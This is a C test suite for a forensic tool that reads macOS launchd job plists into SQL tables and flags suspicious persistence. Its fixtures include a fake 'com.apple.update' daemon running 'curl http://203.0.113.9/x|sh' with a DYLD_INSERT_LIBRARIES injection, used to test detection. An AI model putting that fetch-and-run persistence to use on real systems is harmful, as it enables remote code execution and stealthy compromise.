/* check_launchd.c -- launch_daemons and launchd_overrides over a macOS root and over single files.
 */
#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#include "formats/plist/launchd_plist.h"
#include "harness.h"
#include "make_macos.h"
#include "make_plist.h"

/* Jobs ------------------------------------------------------------------------- */

static struct launchd_job *read_job(const char *value, int expected)
{
    static struct launchd_job job;
    struct plist_error        error;
    char                     *xml = make_plist_xml(value);

    ck_assert_int_eq(launchd_job_read(&job, (uint8_t *)xml, strlen(xml), &error), expected);
    free(xml);
    return &job;
}

START_TEST(a_job_keeps_texts_numbers_and_json_apart)
{
    struct launchd_job *job = read_job(
        "<dict><key>Label</key><string>a</string><key>RunAtLoad</key><integer>1</integer>"
        "<key>ProgramArguments</key><array><string>x \"y\"</string><string>z</string></array>"
        "<key>Disabled</key><dict><key>#If</key><true/></dict><key>UserName</key><integer>0</"
        "integer>"
        "<key>Umask</key><string>022</string><key>KeepAlive</key><false/><key>Unknown</"
        "key><dict><key>Label</key><string>no</string>"
        "</dict></dict>",
        0);
    ck_assert_str_eq(job->label, "a");
    ck_assert_int_eq(job->run_at_load, 1);
    ck_assert_str_eq(job->program_arguments, "[\"x \\\"y\\\"\",\"z\"]");
    ck_assert_str_eq(job->first_argument, "x \"y\"");
    ck_assert_str_eq(job->keep_alive, "false");
    ck_assert_str_eq(job->user_name, "0");
    ck_assert_int_eq(job->disabled, LAUNCHD_ABSENT);
    ck_assert_int_eq(job->umask, 022);
    ck_assert_int_eq(job->start_interval, LAUNCHD_ABSENT);
    ck_assert_ptr_null(job->program);
    ck_assert_uint_eq(job->keys, 8);
    launchd_job_free(job);
}
END_TEST

START_TEST(of_two_equal_keys_the_last_stands)
{
    struct launchd_job *job = read_job("<dict><key>Program</key><string>/bin/true</string>"
                                       "<key>Program</key><string>/tmp/x</string></dict>",
                                       0);
    ck_assert_str_eq(job->program, "/tmp/x");
    launchd_job_free(job);
}
END_TEST

START_TEST(what_was_read_before_an_error_stays_and_no_json_is_cut)
{
    struct launchd_job *job =
        read_job("<dict><key>Label</key><string>a</string><key>WatchPaths</key><array><string>x"
                 "</string><bad/></array></dict>",
                 -EBADMSG);
    ck_assert_str_eq(job->label, "a");
    ck_assert_ptr_null(job->watch_paths);
    read_job("<array/>", -EBADMSG);
    ck_assert_ptr_null(job->label);
    launchd_job_free(job);
}
END_TEST

/* The table --------------------------------------------------------------------- */

static sqlite3    *db;
static const char *root;

static void begin(void)
{
    db = harness_open();
    root = harness_scratch();
    make_macos(root, "mac7");
    harness_query(db, "DELETE FROM evidence");
    harness_query(db, "INSERT INTO evidence(location) VALUES('%s')", root);
}

static void finish(void)
{
    harness_close(db);
}

START_TEST(every_place_of_a_root_is_read)
{
    harness_expect(
        db,
        "agent|com.alice|/Users/alice/Library/LaunchAgents/com.alice.plist\n"
        "agent|com.example.agent|/Library/LaunchAgents/com.example.agent.plist\n"
        "agent|root|/private/var/root/Library/LaunchAgents/root.plist\n"
        "daemon|com.apple.sshd|/System/Library/LaunchDaemons/com.apple.sshd.plist\n"
        "daemon|com.apple.update|/Library/LaunchDaemons/com.apple.updated.plist\n"
        "daemon|com.example.data|/System/Volumes/Data/Library/LaunchDaemons/"
        "com.example.data.plist\n"
        "daemon|com.example.old|/Library/LaunchDaemons/com.example.old.plist.disabled\n"
        "daemon|foo.helper|/Applications/Foo.app/Contents/Library/LaunchDaemons/foo.helper.plist\n"
        "daemon|hidden|/Library/LaunchDaemons/.hidden.plist\n"
        "daemon|noext|/Library/LaunchDaemons/noext\n"
        "login_item|foo.login|/Applications/Foo.app/Contents/Library/LoginItems/L.app/Contents/"
        "Info.plist\n"
        "xpc_service|bar.xpc|/Applications/Utilities/Bar.app/Contents/XPCServices/x.xpc/Contents/"
        "Info.plist",
        "SELECT type, label, path FROM launch_daemons ORDER BY type, label");
}
END_TEST

START_TEST(the_columns_say_what_the_keys_say)
{
    harness_expect(
        db,
        "[\"/bin/sh\",\"-c\",\"curl http://203.0.113.9/x|sh\"]|1|"
        "{\"SuccessfulExit\":false}|{\"DYLD_INSERT_LIBRARIES\":\"/tmp/x.dylib\"}|0|0",
        "SELECT program_arguments, run_at_load, keep_alive, environment_variables, "
        "label_matches_file, hidden FROM launch_daemons WHERE label = 'com.apple.update'");
    harness_expect(db, "[\"/Users/alice\"]|{\"Hour\":3}|18|alice|/dev/null|alice|NULL",
                   "SELECT watch_paths, start_calendar_interval, umask, user_name, stdout, user, "
                   "disabled FROM launch_daemons WHERE type = 'agent' AND label = 'com.alice'");
    harness_expect(db, "1|{\"Wait\":false}|{\"Listeners\":{}}",
                   "SELECT disabled, inetd_compatibility, sockets FROM launch_daemons "
                   "WHERE name = 'com.apple.sshd.plist'");
    harness_expect(db, ".hidden.plist", "SELECT name FROM launch_daemons WHERE hidden");
    harness_expect(db, "0", "SELECT count(*) FROM launch_daemons WHERE json_valid(properties) = 0");
}
END_TEST

START_TEST(the_program_is_found_under_the_root)
{
    char link[4096];

    snprintf(link, sizeof link, "%s/opt", root);
    ck_assert_int_eq(mkdir(link, 0755), 0);
    snprintf(link, sizeof link, "%s/opt/agent", root);
    ck_assert_int_eq(symlink("/bin/sh", link), 0);
    for (int i = 0; i < 2;
         i++) { /* in no folder where programs are, and below one that is not named */
        snprintf(
            link, sizeof link,
            "<plist><dict><key>Label</key><string>com.no.%d</string><key>ProgramArguments</key>"
            "<array><string>%s</string></array></dict></plist>",
            i, i ? "bin/sh" : "nosuch");
        harness_write_text(root,
                           i ? "Library/LaunchDaemons/com.no.1.plist"
                             : "Library/LaunchDaemons/com.no.0.plist",
                           link);
    }
    harness_expect(db, "com.no.0|NULL|NULL\ncom.no.1|NULL|NULL",
                   "SELECT label, program_path, error FROM launch_daemons WHERE label LIKE "
                   "'com.no.%%' ORDER BY label");
    harness_expect(db,
                   "bar.xpc|/Applications/Utilities/Bar.app/Contents/XPCServices/x.xpc/Contents/"
                   "MacOS/x|NULL\n"
                   "com.alice|NULL|/usr/bin/id\n"
                   "com.apple.sshd|/usr/libexec/sshd|NULL\n"
                   "com.apple.update|NULL|/bin/sh\n"
                   "com.example.agent|/opt/agent|/bin/sh\n"
                   "foo.helper|NULL|/Applications/Foo.app/Contents/MacOS/helper",
                   "SELECT label, program, program_path FROM launch_daemons WHERE label IN "
                   "('bar.xpc', 'com.alice', 'com.apple.sshd', 'com.apple.update', "
                   "'com.example.agent', 'foo.helper') ORDER BY label");
}
END_TEST

/* A script begins with "#!" and something; what an interpreter is given may be any text. */
START_TEST(a_script_is_text_that_says_so_or_is_given_to_an_interpreter)
{
    static const struct {
        const char *content;
        size_t      size;
        bool        alone, given; /* whether it is shown */
    } files[] = {{"#!x", 3, true, true},    {"#!", 2, false, true},  {"id", 2, false, true},
                 {"idx", 3, false, true},   {"", 0, false, false},   {"#!x\0", 4, false, false},
                 {"id\0", 3, false, false}, {"!#x", 3, false, true}, {"#", 1, false, true}};
    char path[60], list[500];

    for (size_t i = 0; i < sizeof files / sizeof *files; i++)
        for (int given = 0; given < 2; given++) {
            snprintf(path, sizeof path, "usr/local/script%zu", i);
            harness_write(root, path, files[i].content, files[i].size);
            snprintf(
                list, sizeof list,
                "<plist><dict><key>Label</key><string>s%zu.%d</string><key>ProgramArguments</key>"
                "<array>%s<string>/usr/local/script%zu</string></array></dict></plist>",
                i, given, given ? "<string>/bin/zsh</string><string>-x</string>" : "", i);
            snprintf(path, sizeof path, "Library/LaunchDaemons/s%zu.%d.plist", i, given);
            harness_write_text(root, path, list);
        }
    for (size_t i = 0; i < sizeof files / sizeof *files; i++) {
        char expected[20];
        snprintf(expected, sizeof expected, "%d\n%d", files[i].alone, files[i].given);
        harness_expect(
            db, expected,
            "SELECT script_text IS NOT NULL FROM launch_daemons WHERE label LIKE 's%zu.%%' "
            "ORDER BY label",
            i);
    }
}
END_TEST

START_TEST(overrides_are_joined_to_their_jobs)
{
    harness_expect(db,
                   "com.apple.sshd|0|/private/var/db/com.apple.xpc.launchd/disabled.plist\n"
                   "com.example.agent|1|/private/var/db/com.apple.xpc.launchd/disabled.501.plist\n"
                   "com.example.old|1|/private/var/db/com.apple.xpc.launchd/disabled.plist",
                   "SELECT label, disabled_override, substr(disabled_override_source, %zu) "
                   "FROM launch_daemons WHERE disabled_override IS NOT NULL ORDER BY label",
                   strlen(root) + 1);
}
END_TEST

START_TEST(overrides_of_both_forms_are_listed)
{
    harness_expect(db,
                   "com.apple.sshd|Disabled|false|0|NULL|system\n"
                   "com.example.agent|Disabled|true|1|501|user/501\n"
                   "com.example.agent|Disabled|false|0|502|user/502\n"
                   "com.example.old|Disabled|true|1|NULL|system\n"
                   "com.google.santad|Disabled|true|1|NULL|system",
                   "SELECT label, key, value, disabled, uid, domain FROM launchd_overrides "
                   "ORDER BY label, uid");
}
END_TEST

START_TEST(a_damaged_file_is_a_row_with_an_error_and_a_report)
{
    harness_write_text(root, "Library/LaunchDaemons/bad.plist", "<plist><dict><key>Label</key>");
    harness_write_text(root, "Library/LaunchDaemons/empty.plist", "");
    harness_expect(db,
                   "bad.plist|NULL|line 1: no end of <dict>\n"
                   "empty.plist|NULL|empty file",
                   "SELECT name, label, error FROM launch_daemons WHERE error IS NOT NULL "
                   "ORDER BY name");
    harness_expect(db, "damaged|1|line 1: no end of <dict>",
                   "SELECT status, skipped, detail FROM evidence_sources WHERE "
                   "table_name = 'launch_daemons' AND location LIKE '%%/bad.plist'");
    harness_expect(db, "read|14|2",
                   "SELECT status, records, skipped FROM evidence_sources WHERE "
                   "table_name = 'launch_daemons' AND location = '%s'",
                   root);
}
END_TEST

START_TEST(what_is_no_regular_file_neither_hangs_nor_leaves_the_root)
{
    char path[4096];

    snprintf(path, sizeof path, "%s/Library/LaunchDaemons/fifo.plist", root);
    ck_assert_int_eq(mkfifo(path, 0644), 0);
    snprintf(path, sizeof path, "%s/Library/LaunchDaemons/dir.plist", root);
    ck_assert_int_eq(mkdir(path, 0755), 0);
    snprintf(path, sizeof path, "%s/Library/LaunchDaemons/out.plist", root);
    ck_assert_int_eq(symlink("/etc/passwd", path), 0);
    harness_expect(db,
                   "dir.plist|not a regular file\n"
                   "fifo.plist|not a regular file\n"
                   "out.plist|No such file or directory",
                   "SELECT name, error FROM launch_daemons WHERE error IS NOT NULL ORDER BY name");
}
END_TEST

START_TEST(a_folder_under_two_names_is_read_once)
{
    char path[4096];

    snprintf(path, sizeof path, "%s/System/Volumes/Data/Users", root);
    ck_assert_int_eq(symlink("/Users", path), 0);
    harness_expect(db, "1", "SELECT count(*) FROM launch_daemons WHERE label = 'com.alice'");
}
END_TEST

START_TEST(a_single_file_a_folder_and_a_pattern_can_be_named)
{
    harness_query(db, "DELETE FROM evidence");
    harness_expect(db, "com.apple.sshd|daemon",
                   "SELECT label, type FROM launch_daemons "
                   "WHERE source = '%s/System/Library/LaunchDaemons/com.apple.sshd.plist'",
                   root);
    harness_expect(db, "com.apple.update\ncom.example.old\nhidden",
                   "SELECT label FROM launch_daemons('%s/Library/LaunchDaemons') ORDER BY label",
                   root);
    harness_expect(db, "hidden", "SELECT label FROM launch_daemons('%s/Library/L*D*/.h*')", root);
    harness_expect(db, "12", "SELECT count(*) FROM launch_daemons WHERE root = '%s'", root);
    harness_expect(db, "501",
                   "SELECT uid FROM launchd_overrides "
                   "WHERE source = '%s/private/var/db/com.apple.xpc.launchd/disabled.501.plist'",
                   root);
    harness_expect(db, "0", "SELECT count(*) FROM launch_daemons");
}
END_TEST

START_TEST(a_query_on_type_or_path_reads_no_other_file)
{
    harness_query(db, "SELECT label FROM launch_daemons WHERE type = 'xpc_service'");
    harness_expect(db, "1",
                   "SELECT records FROM evidence_sources WHERE table_name = 'launch_daemons'");
    harness_query(db, "SELECT label FROM launch_daemons WHERE path GLOB '/Users/*'");
    harness_expect(db, "1",
                   "SELECT records FROM evidence_sources WHERE table_name = 'launch_daemons'");
}
END_TEST

START_TEST(what_is_nested_too_deep_is_an_error_row)
{
    char nest[7 * 200];

    for (size_t i = 0; i < sizeof nest; i += 7)
        memcpy(nest + i, "<array>", 7);
    harness_write(root, "Library/LaunchDaemons/nest.plist", nest, sizeof nest);
    harness_expect(db, "not a dictionary",
                   "SELECT error FROM launch_daemons WHERE name = 'nest.plist'");
    harness_expect(db, "NULL", "SELECT properties FROM launch_daemons WHERE name = 'nest.plist'");
}
END_TEST

START_TEST(the_view_for_osquery_has_its_columns)
{
    harness_expect(db,
                   "/Library/LaunchDaemons/com.apple.updated.plist|1|"
                   "/bin/sh -c curl http://203.0.113.9/x|sh|",
                   "SELECT path, run_at_load, program_arguments, username FROM launchd "
                   "WHERE label = 'com.apple.update'");
    harness_expect(db, "10", "SELECT count(*) FROM launchd");
}
END_TEST

START_TEST(findings_tell_the_staged_jobs_from_the_honest_ones)
{
    harness_expect(db, "critical|com.apple.update\ncritical|hidden\nmedium|com.google.santad",
                   "SELECT severity, service FROM t1569_service_creation "
                   "WHERE severity NOT IN ('info', 'low') ORDER BY severity, service");
    harness_expect(db, "0",
                   "SELECT count(*) FROM t1569_service_creation WHERE severity <> 'info' "
                   "AND service IN ('com.apple.sshd', 'com.example.agent', 'foo.helper')");
    harness_expect(db, "/usr/libexec/sshd|enabled|system|1",
                   "SELECT path, state, scope, platform = 'macos' FROM services "
                   "WHERE name = 'com.apple.sshd'");
    harness_expect(db, "1",
                   "SELECT count(*) FROM t1569_launchctl WHERE subject = 'com.google.santad'");
}
END_TEST

/* Looking for what an application does not have must not list the folder of all applications: with
 * 5,000 of them that once took 45 s of processor time. */
START_TEST(many_applications_cost_what_they_hold)
{
    char name[64];

    for (int i = 0; i < 2000; i++) {
        snprintf(name, sizeof name, "Applications/App%d.app/Contents/PkgInfo", i);
        harness_write_text(root, name, "APPL");
    }
    clock_t start = clock();
    harness_expect(db, "12", "SELECT count(*) FROM launch_daemons");
    ck_assert_double_lt((double)(clock() - start) / CLOCKS_PER_SEC, 4);
}
END_TEST

/* Real files ---------------------------------------------------------------------- */

START_TEST(real_jobs_have_labels_and_programs)
{
    const char *folder = harness_evidence("plists/thirdparty");

    if (!folder)
        SKIP("needs SVCQL_EVIDENCE");
    harness_expect(db, "[\"/usr/local/munki/libexec/logouthelper\"]|1",
                   "SELECT program_arguments, label_matches_file FROM launch_daemons("
                   "'%s/munki+munki/launchd/LaunchDaemons/*logouthelper.plist')",
                   folder);
    harness_expect(db, "daemon",
                   "SELECT DISTINCT type FROM launch_daemons("
                   "'%s/munki+munki/launchd/LaunchDaemons')",
                   folder);
}
END_TEST

Suite *make_launchd_suite(void)
{
    Suite *suite = suite_create("launchd");
    TCase *jobs = tcase_create("jobs"), *tables = tcase_create("tables");

    tcase_add_test(jobs, a_job_keeps_texts_numbers_and_json_apart);
    tcase_add_test(jobs, of_two_equal_keys_the_last_stands);
    tcase_add_test(jobs, what_was_read_before_an_error_stays_and_no_json_is_cut);
    suite_add_tcase(suite, jobs);
    tcase_set_timeout(tables, 60);
    tcase_add_checked_fixture(tables, begin, finish);
    tcase_add_test(tables, every_place_of_a_root_is_read);
    tcase_add_test(tables, the_columns_say_what_the_keys_say);
    tcase_add_test(tables, the_program_is_found_under_the_root);
    tcase_add_test(tables, a_script_is_text_that_says_so_or_is_given_to_an_interpreter);
    tcase_add_test(tables, overrides_are_joined_to_their_jobs);
    tcase_add_test(tables, overrides_of_both_forms_are_listed);
    tcase_add_test(tables, a_damaged_file_is_a_row_with_an_error_and_a_report);
    tcase_add_test(tables, what_is_no_regular_file_neither_hangs_nor_leaves_the_root);
    tcase_add_test(tables, a_folder_under_two_names_is_read_once);
    tcase_add_test(tables, a_single_file_a_folder_and_a_pattern_can_be_named);
    tcase_add_test(tables, a_query_on_type_or_path_reads_no_other_file);
    tcase_add_test(tables, what_is_nested_too_deep_is_an_error_row);
    tcase_add_test(tables, the_view_for_osquery_has_its_columns);
    tcase_add_test(tables, findings_tell_the_staged_jobs_from_the_honest_ones);
    tcase_add_test(tables, many_applications_cost_what_they_hold);
    tcase_add_test(tables, real_jobs_have_labels_and_programs);
    suite_add_tcase(suite, tables);
    return suite;
}
